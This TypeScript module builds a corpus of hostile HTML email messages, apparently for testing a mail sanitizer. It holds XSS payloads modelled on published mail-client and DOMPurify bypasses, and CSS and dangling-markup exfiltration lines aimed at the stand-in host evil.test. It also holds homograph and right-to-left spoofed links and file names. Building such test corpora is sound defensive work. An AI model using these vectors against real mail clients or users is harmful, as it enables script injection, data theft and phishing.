import { HOSTILE_MAIL } from './hostile-mail.ts';
import { PAYLOADS } from './payloads.ts';

/** Published attacks on mail clients and sanitizers, beyond those of hostile-mail.ts. Each calls `pwned()` or loads from evil.test. */
const PUBLISHED: readonly string[] = [
  // Roundcube CVE-2024-37383, CVE-2023-5631, CVE-2024-42009, CVE-2020-35730
  '<svg><animate attributeName="href " values="javascript:pwned(1)" href="#x" /><a id=x><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/s vg+xml;base64,PHN2Zz48c2NyaXB0PnB3bmVkKDIpPC9zY3JpcHQ+PC9zdmc+#x"></svg>',
  '<body title="bgcolor=foo" name="bar style=animation-name:x onanimationstart=pwned(3) foo=bar">x',
  '<img src="data:image/svg+xml,<svg onload=pwned(4) xmlns=\'http://www.w3.org/2000/svg\'/>">',
  // Proton Mail, Skiff and Tutanota (Sonar 2022, 2023)
  '<svg><style><proton-svg><a title="</style></proton-svg><img src=x onerror=pwned(5)>"></a></style></svg>',
  '<svg><style>&lt;/style&gt;&lt;img src=x onerror=pwned(6)&gt;</style></svg>',
  '<math><mtext><style><a title="</style><img src=x onerror=pwned(7)>"></a></style></mtext></math>',
  // DOMPurify bypasses of 2019 to 2024
  '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=pwned(8)">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned(9) src>">',
  '<math><annotation-xml encoding="text/html"><noscript><p title="</noscript><img src=x onerror=pwned(10)>">',
  `${'<div>'.repeat(520)}<svg><style><a id="</style><img src=x onerror=pwned(11)>">`,
  `${'<form><h1></form><table>'.repeat(30)}<svg></table></form></svg><img src=x onerror=pwned(12)>`,
  '<svg><title><style><img src=x onerror=pwned(13)></style></title></svg>',
  '<svg><desc><noembed></desc></svg><img title="</noembed><img src=x onerror=pwned(14)>">',
  '<a is="x-y" onfocus=pwned(15) tabindex=1>x</a><x-y></x-y>',
  '<template><s><template><s><img src=x onerror=pwned(16)></s></template></s></template>',
  '<table><caption><svg><desc><table><caption></svg></caption></table><style><a title="</style><img src=x onerror=pwned(17)>">',
  '<select><xmp><script>pwned(18)</script></xmp></select>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "<img src=x onerror=pwned(19)>">]><x>&y;</x>',
  '<svg xmlns="http://www.w3.org/2000/svg"><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">pwned(20)</handler></svg>',
  // Exfiltration by CSS
  '<style>@import "//evil.test/c1" layer(x);</style>',
  "<style>@im\\port url('//evil.test/c2');</style>",
  '<style>@\\69mport "//evil.test/c3";</style>',
  '<style>p{background:\\75rl(//evil.test/c4)}</style><p>x',
  '<style>p{background:u/**/rl(//evil.test/c5);background-image:URL("//evil.test/c6")}</style><p>x',
  '<style>p{background:-webkit-image-set("//evil.test/c7" 1x);mask:url(//evil.test/c8)}</style><p>x',
  '<style>html:has(input[value^="a"]){--x:url(//evil.test/c9)}html{background:var(--x)}</style><input value=a>',
  '<style>@font-face{font-family:x;src:local(a),url(//evil.test/c10);unicode-range:u+0041}p{font-family:x}</style><p>A',
  '<style>@container (width>1px){p{content:url(//evil.test/c11)}}</style><p>x',
  '<style>@namespace url(//evil.test/c12);@counter-style x{system:cyclic;symbols:url(//evil.test/c13)}</style>',
  '<style>a{position:fixed;inset:0;z-index:9999;background:url(//evil.test/c14)}</style><a href="https://evil.test/cover">x</a>',
  '<style>p{filter:url(//evil.test/c15#x);clip-path:url(//evil.test/c16#y);shape-outside:url(//evil.test/c17)}</style><p>x',
  '<link rel="stylesheet" href="data:text/css,*{background:url(//evil.test/c18)}"><p>x',
  '<p style="background:url(/mail/image?url=https%3A%2F%2Fevil.test%2Fc19)">x',
  '<style>p{background:url(/mail/image?url=https%3A%2F%2Fevil.test%2Fc20)}</style><p>x',
  '<img src="/mail/image?url=https%3A%2F%2Fevil.test%2Fc21"><img src="../image?url=https%3A%2F%2Fevil.test%2Fc22">',
  // Forms and navigation
  '<form action=//evil.test/f1><input name=p type=password autofocus><input type=submit formaction=//evil.test/f2></form>',
  '<button form=x formaction="javascript:pwned(21)">x</button><form id=x></form>',
  '<isindex action="javascript:pwned(22)" type=submit value=x>',
  '<meta http-equiv="refresh" content="0;url=javascript:pwned(23)">',
  '<meta http-equiv="refresh" content="0; url=data:text/html,<script>pwned(24)</script>">',
  '<meta http-equiv="Set-Cookie" content="x=y"><meta name="referrer" content="unsafe-url"><img src=https://evil.test/m>',
  '<a href="https://evil.test/top" target="_top">x</a><a href="https://evil.test/parent" target="_parent">y</a>',
  '<map name=m><area shape=default href="https://evil.test/area"></map><img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  '<iframe src="/mail"></iframe><embed src="/mail/frame"><object data="/mail"></object>',
  '<a href="/mail/sign-out">x</a><form method=post action="/mail/sign-out"><button>x</button></form>',
  // Dangling markup
  "<img src='https://evil.test/d1?",
  '<a href="https://evil.test/d2"><base target="',
  "<form action='https://evil.test/d3?",
  '<table background="https://evil.test/d4?',
  '<button name=x formaction="https://evil.test/d5"><textarea name=y>',
  "<meta http-equiv=refresh content='0;url=https://evil.test/d6?",
  '<style>@import "https://evil.test/d7?',
  '<plaintext><img src=x onerror=pwned(25)>',
  '<!--[if mso]><img src="https://evil.test/d8"><script>pwned(26)</script><![endif]--><!--[if !mso]><!--><img src=//evil.test/d9><!--<![endif]-->',
  // Addresses of parts and data
  '<img src="cid:x" onload=pwned(27)><iframe src="cid:evil.html"></iframe><object data="cid:evil.svg"></object>',
  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduZWQoMjgpIi8+">',
  '<a href="data:text/html;charset=utf-8,<script>pwned(29)</script>" download="x.html">x</a>',
  '<a href="blob:https://evil.test/1">x</a><a href="file:///etc/passwd">y</a><a href="ms-msdt:/id">z</a>',
  '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:pwned(30)">x</a>',
  '<a href="\u0001javascript:pwned(31)">x</a><a href="java\u0000script:pwned(32)">y</a><a href="\u2028javascript:pwned(33)">z</a>',
  '<img src=`javascript:pwned(34)`><img src="x` `<script>pwned(35)</script>"` `>',
];

/** Links whose text names another host than they lead to, also by tricks of Unicode. A click on one must ask first. */
const MISLEADING: readonly string[] = [
  '<a href="https://evil.test/u1">https://bank.example/</a>',
  '<a href="https://bank.example@evil.test/u2">bank.example</a>',
  '<a href="https://bank.example.evil.test/u3">www.bank.example</a>',
  '<a href="https://evil.test/u4">bank\u3002example</a>',
  '<a href="https://evil.test/u5">\uff42\uff41\uff4e\uff4b\uff0eexample</a>',
  '<a href="https://evil.test/u6">ba\u200bnk.exam\u00adple</a>',
  '<a href="https://evil.test/u7">\u202eelpmaxe.knab</a>',
  '<a href="https://evil.test/u8"><bdo dir="rtl">elpmaxe.knab</bdo></a>',
  '<a href="https://evil.test/u9">b\u0430nk.example</a>',
  '<a href="https://evil.test/u10">bank<span>.</span>example</a>',
  '<a href="https://evil.test/u11">bank\u2024example</a>',
  '<a href="https://evil.test/u12">bank\uff61example</a>',
];

const VECTORS: readonly string[] = [...HOSTILE_MAIL, ...PUBLISHED, ...MISLEADING];

/** Places in a message where an attack parses differently. */
const CONTEXTS: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `<html><head><style>p{color:red}</style>${attack}</head><body><p>text</p>${attack}</body></html>`,
  (attack) => `<table><tr><td>${attack}</td></tr></table>`,
  (attack) => `<svg><foreignObject>${attack}</foreignObject></svg>`,
  (attack) => `<math><mtext>${attack}</mtext></math>`,
  (attack) => `<noscript>${attack}</noscript><template>${attack}</template>`,
  (attack) => `<select><option>${attack}</option></select><textarea>${attack}</textarea><title>${attack}</title>`,
  (attack) => `<!-- --!>${attack}<!-- > -->${attack.slice(0, -1)}`,
  (attack) =>
    `<div title="${attack.replaceAll('"', '&quot;')}">x</div>${attack.toUpperCase().replaceAll('PWNED', 'pwned')}`,
];

/** Marks and letters in names of senders and files that look like something else. */
const NAMES: readonly string[] = [
  ...PAYLOADS,
  'invoice\u202efdp.exe',
  'ceo@bank.example\u200b',
  '\u2066Support\u2069 <help@bank.example>',
  'b\u0430nk',
  'a'.repeat(200),
  '\u0000\u0007nul',
  'pdf.\u00ad\u00adexe',
  '\u{1f512} Verified',
];

/** A message of the corpus. */
export interface HostileMessage {
  html: string;
  name: string;
}

/** Messages of the corpus: each attack in as many places as it takes. */
export const HOSTILE_CORPUS: readonly HostileMessage[] = Array.from({ length: 1_000 }, (_, i) => {
  const attack = VECTORS[i % VECTORS.length] ?? '';
  const context = CONTEXTS[Math.floor(i / VECTORS.length) % CONTEXTS.length];
  return { html: context?.(attack) ?? attack, name: NAMES[i % NAMES.length] ?? '' };
});
